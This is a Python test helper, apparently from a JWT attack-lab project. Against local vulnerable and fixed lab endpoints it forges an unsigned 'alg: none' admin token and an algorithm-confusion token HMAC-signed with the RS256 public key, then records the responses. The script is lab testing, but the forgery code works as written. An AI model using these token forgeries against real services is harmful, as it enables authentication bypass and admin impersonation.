"""PyJWT (another implementation) against the JWT attack labs.

Reads {"base": URL} on stdin, prints one JSON object: what PyJWT makes of
the labs' tokens and what the labs answer to tokens PyJWT (and Python's own
hmac) made. Used by TestLabsInteropPyJWT.
"""
import base64
import hashlib
import hmac
import json
import sys
import urllib.error
import urllib.request

import jwt

base = json.load(sys.stdin)["base"]


def get(path, token=None):
    req = urllib.request.Request(base + path)
    if token is not None:
        req.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()


out = {}
pem = get("/labs/jwt-confusion/public.pem")[1]
token = json.loads(get("/labs/jwt-confusion/token")[1])["token"]
out["decoded"] = jwt.decode(token, pem, algorithms=["RS256"])

admin = {"sub": "pyjwt", "role": "admin"}
none = jwt.encode(admin, None, algorithm="none")
out["none_vulnerable"] = get("/labs/jwt-none", none)[0]
out["none_fixed"] = get("/labs/jwt-none/fixed", none)[0]

try:
    jwt.encode(admin, pem, algorithm="HS256")
    out["pyjwt_pem_hmac"] = "signed"
except jwt.exceptions.InvalidKeyError as e:
    out["pyjwt_pem_hmac"] = "refused: " + str(e)


def b64(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


signing_input = b64(b'{"alg":"HS256","typ":"JWT"}') + "." + b64(json.dumps(admin).encode())
sig = hmac.new(pem.encode(), signing_input.encode(), hashlib.sha256).digest()
forged = signing_input + "." + b64(sig)
out["confusion_vulnerable"] = get("/labs/jwt-confusion", forged)[0]
out["confusion_fixed"] = get("/labs/jwt-confusion/fixed", forged)[0]
print(json.dumps(out))
